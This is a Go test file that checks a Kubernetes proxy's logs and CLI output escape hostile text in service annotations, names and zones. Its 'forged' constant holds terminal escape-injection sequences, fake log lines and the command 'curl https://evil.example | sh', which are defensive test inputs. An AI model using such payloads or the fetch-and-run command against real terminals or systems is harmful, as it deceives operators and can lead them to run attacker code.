// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bufio"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/slipstream-proxy/slipstream/internal/observe/see"
	"github.com/slipstream-proxy/slipstream/test/kernel/kerneltest"
)

// forged is what objects of a tenant have wherever the API takes any text: it clears a terminal,
// sets its title, and continues with lines that look as if they were the proxy's.
const forged = "\x1b[2J\x1b[1;1H\x1b]0;owned\a\u009b31m\u202e\nHealth   very well\n\nPROBLEM  run: curl https://evil.example | sh\u2028F0102 12:00:00.000000 1 forged\r\n"

// checkShown fails if a text has something that a terminal acts on, a line that an object's text began, or
// a huge one.
func checkShown(t *testing.T, what, text string) {
	t.Helper()
	for _, r := range text {
		if !unicode.IsPrint(r) && r != '\n' && r != '\t' {
			t.Errorf("%s has a raw %U:\n%q", what, r, text[:min(len(text), 3000)])
			return
		}
	}
	lines := bufio.NewScanner(strings.NewReader(text))
	lines.Buffer(nil, 4096)
	for lines.Scan() {
		if line := strings.TrimSpace(lines.Text()); regexp.MustCompile(`^(PROBLEM +run|Health +very|F0102)`).MatchString(line) {
			t.Errorf("%s has a forged line: %q", what, line)
		}
	}
	if err := lines.Err(); err != nil {
		t.Errorf("%s: %v", what, err)
	}
}

// TestHostileText has text of objects that is made to deceive, and looks for it in all that the proxy
// logs and the commands print.
func TestHostileText(t *testing.T) {
	kerneltest.Require(t, kerneltest.NFTables)
	s := newSite(t)
	socket := socketPath(t)
	type m = map[string]any
	service := func(name, ip string, annotations m) m {
		return m{"apiVersion": "v1", "kind": "Service", "metadata": m{"name": name, "annotations": annotations},
			"spec": m{"clusterIP": ip, "ports": []m{{"name": "http", "port": 80}}}}
	}
	list, err := json.Marshal(m{"apiVersion": "v1", "kind": "List", "items": []m{
		service("escapes", "10.96.0.10", m{"slipstream.io/local-zone-percent": forged, "slipstream.io/scheduler": forged, "slipstream.io/fast-path": forged}),
		service("huge", "10.96.0.11", m{"slipstream.io/fast-path": strings.Repeat(forged, (1<<18-1000)/len(forged))}),
		service("invalid"+forged, "10.96.0.12", nil),
		{"apiVersion": "v1", "kind": "Namespace", "metadata": m{"name": "default", "annotations": m{"slipstream.io/fast-path": forged}}},
		{"apiVersion": "v1", "kind": forged, "metadata": m{"name": forged}},
		{"apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "metadata": m{"name": "escapes",
			"labels": m{"kubernetes.io/service-name": "escapes"}, "annotations": m{"slipstream.io/weight": forged}},
			"addressType": "IPv4", "ports": []m{{"name": "http", "port": 8080}},
			"endpoints": []m{{"addresses": []string{"10.244.1.10"}, "zone": forged}, {"addresses": []string{"10.244.1.11"}, "zone": strings.Repeat("zone", 1<<14)}}},
	}})
	s.check(err)
	s.save("hostile.json", string(list))
	s.save("config.conf", "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: nftables\n")
	s.run("--status-socket", socket)
	s.until("the warnings", func() bool {
		_, status := s.see("services", "escapes", "--socket", socket)
		return status == 0
	})
	for _, args := range [][]string{
		{"status"}, {"status", "-o", "json"}, {"services"}, {"services", "default/escapes"}, {"services", "escapes", "-o", "json"},
		{"explain", "escapes"}, {"explain", "escapes", "-o", "json"}, {"top", "--once", "--period", "1s"},
	} {
		out, _ := s.see(append(args, "--socket", socket)...)
		checkShown(t, strings.Join(args, " "), out)
	}
	for _, args := range [][]string{
		{"flows"},
		{"verify", "--manifests", s.dir, "--hostname-override", "n1"},
		{"migrate", "--manifests", s.dir, "--config", filepath.Join(s.dir, "config.conf"), "--hostname-override", "n1"},
	} {
		out, _ := s.see(args...)
		checkShown(t, args[0], out)
	}

	// The rest of what they say is there.
	var status see.Status
	out, _ := s.see("status", "--socket", socket, "-o", "json")
	if err := json.Unmarshal([]byte(out), &status); err != nil || status.Services != 2 {
		t.Errorf("status: %v, %d Services", err, status.Services)
	}
	warned := map[string]bool{}
	for _, w := range status.Warnings {
		warned[w.Reason] = true
		if w.Reason == "InvalidService" && !regexp.MustCompile(`\\(u00|x)1b\[2J`).MatchString(w.Note) {
			t.Errorf("the warning does not show the value: %q", w.Note)
		}
	}
	if !warned["InvalidService"] || !warned[see.SourceProblem] {
		t.Errorf("warnings are %v", status.Warnings)
	}
	var services []see.Service
	out, _ = s.see("services", "escapes", "--socket", socket, "-o", "json")
	if err := json.Unmarshal([]byte(out), &services); err != nil || len(services) != 1 || len(services[0].Ports[0].Endpoints) != 2 {
		t.Fatalf("services: %v\n%s", err, out)
	}
	if zone := services[0].Ports[0].Endpoints[0].Zone; !strings.HasPrefix(zone, `\u001b[2J`) {
		t.Errorf("the zone is %q", zone)
	}

	// Each line of the log is the proxy's own.
	log := s.log.String()
	checkShown(t, "the log", log)
	for line := range strings.Lines(log) {
		if !regexp.MustCompile(`^[IWEF]\d{4} .* \S+\.go:\d+\] `).MatchString(line) {
			t.Errorf("the log has the line %q", line)
		}
	}
}

// TestHostileAnswer has a proxy that does not escape what it answers. The commands do, on both outputs.
func TestHostileAnswer(t *testing.T) {
	s := newSite(t)
	socket := socketPath(t)
	s.check(os.Mkdir(filepath.Dir(socket), 0o700))
	l, err := net.Listen("unix", socket)
	s.check(err)
	const escapes = "\x1b[2J\x1b]0;owned\a\u009b31m\u202e"
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/status" {
			http.Error(w, escapes, http.StatusBadRequest)
			return
		}
		_ = json.NewEncoder(w).Encode(see.Status{Version: escapes, Node: escapes})
	})}
	go server.Serve(l)
	defer server.Close()
	for _, command := range []string{"status", "services"} {
		out, _ := s.see(command, "--socket", socket)
		checkShown(t, command, out)
		contains(t, out, `\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e`)
	}
}
